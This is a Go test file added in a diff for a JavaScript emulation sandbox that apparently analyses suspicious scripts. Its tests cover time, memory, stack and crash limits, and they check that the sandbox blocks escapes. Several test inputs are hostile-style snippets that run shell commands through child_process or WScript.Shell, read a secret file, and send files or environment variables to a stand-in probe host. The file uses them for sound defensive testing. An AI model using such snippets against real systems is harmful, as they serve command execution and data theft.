@@ -1,0 +1,164 @@
+package emulate
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+// Each limit ends the run within its budget, keeps what was recorded before
+// and says why.
+func TestLimits(t *testing.T) {
+	t.Parallel()
+	const budget = time.Second
+	tests := []struct {
+		name   string
+		src    string
+		reason []Reason // any of
+	}{
+		{"endless loop", `fetch("https://before-loop.example/"); for (;;) {}`, []Reason{ReasonTime}},
+		{"endless loop in a timer", `fetch("https://before-loop.example/"); setInterval(function () { for (;;) {} }, 10)`, []Reason{ReasonTime}},
+		{"endless loop in eval", `fetch("https://before-loop.example/"); eval("while (true) {}")`, []Reason{ReasonTime}},
+		// goja slows down on huge concatenations: the doubling string may
+		// meet the clock before the memory limit.
+		{"doubling string", `fetch("https://before-loop.example/"); var s = "x"; for (;;) s += s;`, []Reason{ReasonMemory, ReasonTime}},
+		{"doubling array", `fetch("https://before-loop.example/"); var a = [1]; for (;;) a = a.concat(a);`, []Reason{ReasonMemory, ReasonTime}},
+		{"growing array", `fetch("https://before-loop.example/"); var a = []; for (;;) a.push(new Uint8Array(1 << 24));`, []Reason{ReasonMemory}},
+		{"growing array of strings", `fetch("https://before-loop.example/"); var a = []; for (;;) a.push("x".repeat(1 << 20) + a.length);`, []Reason{ReasonMemory, ReasonTime}},
+		{"one huge string", `fetch("https://before-loop.example/"); var s = "x".repeat(1 << 30);`, []Reason{ReasonMemory}},
+		{"deep recursion", `fetch("https://before-loop.example/"); function r(n) { return r(n + 1) + 1; } r(0);`, []Reason{ReasonStack}},
+		{"recursion through getters", `fetch("https://before-loop.example/"); var o = {get x() { return [1].map(function () { return o.x; }); }}; o.x;`, []Reason{ReasonStack}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			start := time.Now()
+			res := run(t, tt.src, Options{Timeout: budget, Profiles: []string{profileBrowser}})
+			if took := time.Since(start); took > budget+killGrace+time.Second {
+				t.Errorf("Run(%q) took %v, want at most %v", tt.src, took, budget+killGrace)
+			}
+			if res.Budget == nil || !slices.Contains(tt.reason, res.Budget.Reason) {
+				t.Errorf("Run(%q).Budget = %+v, want reason in %q", tt.src, res.Budget, tt.reason)
+			}
+			if !hasEvent(res, "fetch", "https://before-loop.example/") {
+				t.Errorf("Run(%q) lost the event recorded before the limit: %v", tt.src, res.Events)
+			}
+		})
+	}
+}
+
+func hasEvent(res *Result, sink, value string) bool {
+	for _, e := range res.Events {
+		if e.Sink == sink && e.Value == value {
+			return true
+		}
+	}
+	return false
+}
+
+// A regular expression that backtracks catastrophically (goja hands
+// patterns with lookaround to a backtracking engine) gives up at the match
+// timeout, and the script goes on.
+func TestRegexpTimeout(t *testing.T) {
+	t.Parallel()
+	res := run(t, `/^(a+)+$(?!x)/.test("a".repeat(34) + "!"); fetch("https://after-regexp.example/")`, Options{Timeout: 3 * time.Second, Profiles: []string{profileBrowser}})
+	if res.Budget != nil || !hasEvent(res, "fetch", "https://after-regexp.example/") {
+		t.Errorf("Run(backtracking regexp) = budget %+v, events %v; want the fetch after it and no budget", res.Budget, res.Events)
+	}
+}
+
+// What the parent does with a child that dies or hangs after it recorded
+// something: a stand-in child written in sh.
+func TestChildDies(t *testing.T) {
+	t.Parallel()
+	const ready = `echo '{"k":"ready"}'; read -r req; echo '{"k":"ev","s":"fetch","v":"https://before-crash.example/","p":"browser"}'; `
+	tests := []struct {
+		name   string
+		script string
+		reason Reason
+	}{
+		{"segfault", ready + `kill -SEGV $$`, ReasonCrash},
+		{"exit", ready + `exit 3`, ReasonCrash},
+		{"out of memory", ready + `echo 'fatal error: runtime: out of memory' >&2; exit 2`, ReasonMemory},
+		{"hang", ready + `while :; do :; done`, ReasonTime},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			start := time.Now()
+			res, err := Run(context.Background(), []byte("x"), Options{Timeout: 500 * time.Millisecond, Executable: "/bin/sh", Args: []string{"-c", tt.script}})
+			if err != nil {
+				t.Fatalf("Run(%s): %v", tt.name, err)
+			}
+			if took := time.Since(start); took > 3*time.Second {
+				t.Errorf("Run(%s) took %v", tt.name, took)
+			}
+			if res.Budget == nil || res.Budget.Reason != tt.reason {
+				t.Errorf("Run(%s).Budget = %+v, want reason %q", tt.name, res.Budget, tt.reason)
+			}
+			if !hasEvent(res, "fetch", "https://before-crash.example/") {
+				t.Errorf("Run(%s) lost the event streamed before the end: %v", tt.name, res.Events)
+			}
+		})
+	}
+}
+
+// Nothing a script does reaches outside the sandbox: no module loader, no
+// process object, no command run, no file read or written.
+func TestSandbox(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	secret := filepath.Join(dir, "secret.txt")
+	if err := os.WriteFile(secret, []byte("TOPSECRET-4711"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	marker := filepath.Join(dir, "pwned")
+	q := func(s string) string { return `"` + strings.ReplaceAll(s, `\`, `\\`) + `"` }
+	tests := []struct {
+		name string
+		src  string
+		want string // a probe event value that must be recorded
+		stub string // a global the run had to stub, if any
+	}{
+		{"require", `new Image().src = "https://probe.example/?" + typeof require; require("child_process").execSync("touch " + ` + q(marker) + `);`, "https://probe.example/?undefined", "require"},
+		{"process", `new Image().src = "https://probe.example/?" + typeof process + typeof Deno + typeof Bun; process.exit(3);`, "https://probe.example/?undefinedundefinedundefined", "process"},
+		{"fs module", `var fs = require("fs"); fs.writeFileSync(` + q(marker) + `, "x"); new Image().src = "https://probe.example/?" + fs.readFileSync(` + q(secret) + `);`, "", "require"},
+		{"shell run", `var sh = new ActiveXObject("WScript.Shell"); sh.Run("sh -c 'touch ` + marker + `'", 0, true); sh.Exec("cmd /c type ` + secret + `"); WScript.CreateObject("Shell.Application").ShellExecute("sh", "-c 'touch ` + marker + `'");`, "sh -c 'touch " + marker + "'", ""},
+		{"file read", `var f = new ActiveXObject("Scripting.FileSystemObject"); var t = f.OpenTextFile(` + q(secret) + `, 1).ReadAll(); var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.LoadFromFile(` + q(secret) + `); t += s.ReadText(); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://probe.example/?" + t + f.FileExists(` + q(secret) + `));`, "https://probe.example/?false", ""},
+		{"file write", `var f = new ActiveXObject("Scripting.FileSystemObject"); var o = f.CreateTextFile(` + q(marker) + `, true); o.WriteLine("x"); o.Close(); var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.WriteText("x"); s.SaveToFile(` + q(marker) + `, 2); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://probe.example/?" + f.FileExists(` + q(marker) + `));`, "https://probe.example/?false", ""},
+		{"environment", `var sh = new ActiveXObject("WScript.Shell"); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://probe.example/?" + sh.ExpandEnvironmentStrings("%HOME%|%PATH%|%TEMP%"));`, "https://probe.example/?%HOME%|C:\\Windows\\system32;C:\\Windows;C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\|C:\\Users\\jdoe\\AppData\\Local\\Temp", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			res := run(t, tt.src, Options{Timeout: 2 * time.Second})
+			if res.Budget != nil {
+				t.Errorf("Run(%s).Budget = %+v, want nil", tt.name, res.Budget)
+			}
+			if tt.want != "" {
+				found := false
+				for _, e := range res.Events {
+					found = found || e.Value == tt.want
+				}
+				if !found {
+					t.Errorf("Run(%s): no event %q; events:\n%s", tt.name, tt.want, dump(res.Events))
+				}
+			}
+			for _, e := range res.Events {
+				if strings.Contains(e.Value, "TOPSECRET") || strings.Contains(e.Value, os.Getenv("HOME")+"/") {
+					t.Errorf("Run(%s) leaked %q at %s", tt.name, e.Value, e.Sink)
+				}
+			}
+			if tt.stub != "" && !slices.Contains(res.Stubbed, tt.stub) {
+				t.Errorf("Run(%s).Stubbed = %v, want %q in it", tt.name, res.Stubbed, tt.stub)
+			}
+			if _, err := os.Stat(marker); err == nil {
+				t.Errorf("Run(%s) created %s", tt.name, marker)
+			}
+		})
+	}
+}
